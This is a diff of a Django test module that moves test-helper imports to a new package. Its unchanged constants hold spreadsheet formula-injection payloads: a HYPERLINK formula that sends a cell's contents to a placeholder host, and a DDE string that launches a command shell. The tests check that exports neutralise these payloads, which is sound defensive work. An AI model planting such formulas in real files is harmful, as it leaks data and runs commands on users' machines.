@@ -28,8 +28,8 @@ from openpyxl import load_workbook
 
 from anjian.core import jobs
 from anjian.core.models import BackgroundJob, JobStatus
-from anjian.core.testing import world
 from anjian.web.tests.test_url_access import iter_routes
+from testsupport import world
 
 FORMULA = '=HYPERLINK("http://x.example/?"&C2,"张三")'
 AT = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -278,10 +278,10 @@ def test_a_large_export_job_writes_planted_formulas_as_text(
 def test_the_import_error_report_writes_the_uploaded_formulas_as_text(
     db, client_for, settings, tmp_path, django_capture_on_commit_callbacks
 ):
-    from anjian.core.testing.hostile_xlsx import text_workbook
     from anjian.enterprises.importer import MODE_VALID
     from anjian.enterprises.ledger import COLUMNS
     from anjian.enterprises.tests.test_importer import HEADERS, row
+    from testsupport.hostile_xlsx import text_workbook
 
     settings.MEDIA_ROOT = tmp_path
     client = client_for(official())
